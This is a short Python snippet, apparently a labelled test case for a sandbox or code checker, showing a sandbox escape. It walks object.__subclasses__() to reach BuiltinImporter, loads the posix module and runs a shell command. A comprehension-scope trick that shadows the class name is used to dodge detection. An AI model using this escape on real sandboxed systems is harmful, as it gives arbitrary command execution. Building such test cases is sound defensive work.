# HARM: shell via BuiltinImporter | TRICK: comprehension for-target named Base (comprehension scope) iterates (object,)
class Base: pass
class A(Base): pass
subs = [s for Base in (object,) for s in Base.__subclasses__()]
for k in subs:
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
